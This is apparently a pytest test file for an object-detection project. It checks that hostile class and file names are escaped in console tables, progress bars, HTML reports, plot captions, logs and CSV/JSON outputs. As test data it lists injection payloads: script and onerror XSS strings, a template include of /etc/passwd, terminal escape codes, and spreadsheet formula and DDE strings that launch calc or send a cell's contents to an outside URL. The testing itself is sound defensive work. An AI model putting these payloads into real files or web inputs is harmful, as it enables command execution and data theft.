"""Names of classes and files that a terminal, a browser, matplotlib or a spreadsheet would obey."""

from __future__ import annotations

import csv
import io
import json
import sys
import warnings
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from matplotlib.cbook import is_math_text
from PIL import Image, ImageChops
from pytorch_lightning.loggers import TensorBoardLogger

from data import open_dataset
from data.dataset import Dataset
from data.loader import make_loader
from data.source import DataSource, describe_splits
from evaluation.figures import short
from evaluation.metrics.results import Detections
from evaluation.run_pictures import save_detections
from model.checkpoint import DetectorDescription, load_checkpoint
from model.lightning_trainer import DetectorModule, Recipe
from model.training.run_recorder import RunRecorder
from prediction import output_files as prediction_files
from prediction.inference import Prediction
from prediction.output_files import OutputFiles, csv_line
from tests.data_sets import annotation, draw_image, write_text
from tests.evaluation.pages import metrics_of, outside, page_of
from tests.image_results import random_results
from tests.memory_data import quiet_trainer
from tests.small_models import SIDE
from utils.console import harmless, progress_bar, say, show_table
from utils.run_folder import write_json
from utils.visualisation import draw_boxes

NAMES = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror='alert(1)'>&amp;",
    "{{7*7}}{% include '/etc/passwd' %}",
    "[red]x[/red][/]",
    "\x1b]0;title\x07\x1b[2J",
    "two\nlines\r\x85\u2028",
    "right\u202eto left",
    "null\0",
    "$\\frac{",
    "$x$ $$",
    "_hidden^2",
    "=cmd|' /C calc'!A0",
    "a" * 10_000,
    "\u202e" * 10_000,
)
# What the names above would be if they were obeyed.
OBEYED = ("\x1b", "\x07", "\r", "\x85", "\u2028", "\u202e", "\0", "<script", "<img src=x")
texts = st.text(st.characters(exclude_categories=["Cs"]), min_size=1)
several = settings(max_examples=60, deadline=None)


def assert_lines_are_harmless(text: str, count: int | None = None) -> None:
    lines = text.removesuffix("\n").split("\n")
    assert all(line.isprintable() for line in lines)
    assert count is None or len(lines) == count


# --- console ---


def test_a_data_set_of_hostile_names_is_described_in_harmless_lines(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every name is a class of its own, and each picture has one too, as far as disks allow."""
    for split in ("train", "test"):
        table = io.StringIO(newline="")
        rows = csv.writer(table)
        rows.writerow(["filename", "class", "xmin", "ymin", "xmax", "ymax"])
        for number, name in enumerate(NAMES):
            file = f"{number}{name[:40]}.jpg".replace("/", "\u2215").replace("\0", "")
            draw_image(tmp_path / split / file)
            rows.writerow([file, name, 4, 6, 20, 30])
        write_text(tmp_path / f"{split}_labels.csv", table.getvalue())
    splits = open_dataset(tmp_path)
    assert set(splits.class_names) == {name.strip() for name in NAMES}
    assert all(splits.train[i][0].shape[0] == 3 for i in range(len(splits.train)))
    facts = describe_splits(splits, DataSource(str(tmp_path)))
    for label, text in facts:
        say(label, text)
    assert_lines_are_harmless(capsys.readouterr().out, len(facts))


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_name_is_shown_as_it_is_wherever_a_table_or_a_bar_has_room_for_it(
    name: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "200000")
    show_table(name, (name, "objects"), [(name, name)])
    out = capsys.readouterr().out
    assert_lines_are_harmless(out)
    # A title is wrapped at the width of its table, the cells are not.
    assert out.count(harmless(name)) >= 3
    terminal = io.StringIO()
    monkeypatch.setattr(terminal, "isatty", lambda: True)
    monkeypatch.setattr(sys, "stdout", terminal)
    monkeypatch.setenv("TERM", "xterm")
    with progress_bar(name) as progress:
        progress(1, 2)
    shown = terminal.getvalue()
    assert harmless(name)[:20] in shown and not any(sign in shown for sign in ("\x1b]", "\u202e"))


# --- report ---


def test_the_report_shows_hostile_names_and_is_commanded_by_none() -> None:
    def picture(image_id: int) -> tuple[str, Image.Image]:
        return f"folder/{NAMES[image_id % len(NAMES)]}", Image.new("RGB", (90, 60))

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        metrics = metrics_of(random_results(1, classes=len(NAMES)), NAMES)
        page = page_of(metrics, picture, [(name, name) for name in NAMES])
    assert outside(page) == [] and not any(sign in page for sign in OBEYED)
    assert "{{7*7}}" in page and ">49<" not in page and "root:" not in page
    page.encode("utf-8")


@several
@given(texts)
def test_no_name_is_a_formula_to_matplotlib(name: str) -> None:
    shown = short(name)
    assert not is_math_text(shown) and not shown.startswith("_")
    assert shown.isprintable() and len(shown) <= 20


@pytest.mark.parametrize("name", [*NAMES, "half\udcff", "x" * 2_000_000], ids=str.__len__)
def test_a_caption_of_any_name_is_drawn_in_one_line_of_bounded_length(name: str) -> None:
    picture = Image.new("RGB", (2000, 200), "grey")
    box = [[4, 100, 1990, 190]]
    drawn, plain = (draw_boxes(picture, box, [1], [text]) for text in (f"{name} 0.97", ""))
    changed = ImageChops.difference(drawn, plain).getbbox()
    assert changed is not None and changed[0] >= 0
    assert changed[3] - changed[1] <= 100 and changed[3] <= 101


# --- files ---


def test_a_run_of_hostile_names_logs_none_of_them_and_its_checkpoint_keeps_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator

    paths = [draw_image(tmp_path / "data" / f"{number}.png") for number in range(len(NAMES))]
    things = [[(name, 4, 6, 20, 30)] for name in NAMES]
    dataset = Dataset(list(map(annotation, paths, things)), NAMES)
    description = DetectorDescription("efficientnet-b0", NAMES, SIDE, anchor_scale=0.25)
    module = DetectorModule(description.build(), NAMES, Recipe(), description.as_plain())
    trainer = quiet_trainer(
        max_epochs=1,
        limit_train_batches=1,
        log_every_n_steps=1,
        logger=TensorBoardLogger(tmp_path, name="", version=""),
        callbacks=[RunRecorder(tmp_path, description)],
    )
    trainer.fit(module, make_loader(dataset, 2), make_loader(dataset.subset([0, 1]), 2))
    assert_lines_are_harmless(capsys.readouterr().out)
    events = EventAccumulator(str(tmp_path)).Reload().Tags()
    tags = [tag for kind in events.values() if isinstance(kind, list) for tag in kind]
    header = (tmp_path / "metrics.csv").read_text(encoding="utf-8").splitlines()[0].split(",")
    assert "mAP" in tags and "mAP" in header
    assert all(word.replace("_", "").isalnum() for word in [*tags, *header])
    assert load_checkpoint(tmp_path / "best.pth").description.class_names == NAMES
    save_detections(module.results, dataset, tmp_path / "detections.png", 0.0)
    assert Image.open(tmp_path / "detections.png").size > (1, 1)


def prediction(index: int, name: str) -> Prediction:
    boxes, image = np.array([[1.0, 2, 30, 40]]), Image.new("RGB", (64, 48))
    detections = Detections(boxes, np.array([0.5]), np.array([1]))
    return Prediction(index, None, image.size, detections, (name,), image=image)


def test_the_tables_of_a_prediction_hold_every_name_in_one_cell_and_json_as_it_is(
    tmp_path: Path,
) -> None:
    files = [
        f"{name[:60]}{k}.png".replace("/", "").replace("\0", "") for k, name in enumerate(NAMES)
    ]
    with OutputFiles(tmp_path, files) as results:
        for index, name in enumerate(NAMES):
            results.add(prediction(index, name))
    found = json.loads((tmp_path / "predictions.json").read_text(encoding="utf-8"))
    assert [row["category_name"] for row in found] == list(NAMES)
    assert [row["file_name"] for row in found] == files
    for table in ("predictions.csv", "images.csv"):
        with open(tmp_path / table, newline="", encoding="utf-8") as file:
            rows = list(csv.DictReader(file))
        assert [row["filename"].removeprefix("'") for row in rows] == files
    assert len(list((tmp_path / "images").iterdir())) == len(NAMES)


def test_a_spreadsheet_takes_no_name_for_a_formula_and_others_are_written_as_they_are() -> None:
    formulas = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"ace")', "+SUM(A1:A9)", "@SUM(1)"]
    formulas += ["-2+3+cmd|' /C calc'!A0", "\t=SUM(1)", "\r\n=SUM(1)", "\uff1dSUM(1)"]
    formulas += ["='file:///etc/passwd'#$A.A1"]
    others = ["ace", "+", "-", "=", "@", "-1.jpg", "+18", "@home", "a=b(c)", "1-2(3)", "[=x(1)]"]
    for name in [*formulas, *others]:
        (row,) = csv.reader(io.StringIO(csv_line(name, 0.5, -3.25), newline=""))
        assert row == ["'" + name if name in formulas else name, "0.5", "-3.25"]


@several
@given(st.lists(texts, min_size=1, max_size=4))
def test_a_row_of_any_names_is_read_back_as_one_row(names: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(csv_line(*names), newline=""))
    assert [cell.removeprefix("'") for cell in row] == [name.removeprefix("'") for name in names]


def test_the_longest_names_that_a_disk_takes_are_drawn_under_shorter_ones(tmp_path: Path) -> None:
    files = ["a" * 251 + ".png", "a" * 251 + ".gif", "é" * 125 + ".png", "\udcff" * 251 + ".png"]
    with OutputFiles(tmp_path, files) as results:
        for index in range(len(files)):
            results.add(prediction(index, "ace"))
    assert len(list((tmp_path / "images").iterdir())) == len(files)
    drawn = prediction_files.drawn_names([*files, "short.png"])
    assert drawn[-1] == "short.jpg" and all(len(name.encode()) < 254 for name in drawn)


def test_a_path_that_is_no_utf_8_is_written_to_json_and_read_back(tmp_path: Path) -> None:
    for name in (*NAMES, "half\udcff"):
        write_json({"path": name}, tmp_path / "config.json")
        text = (tmp_path / "config.json").read_bytes().decode("utf-8")
        assert json.loads(text) == {"path": name}
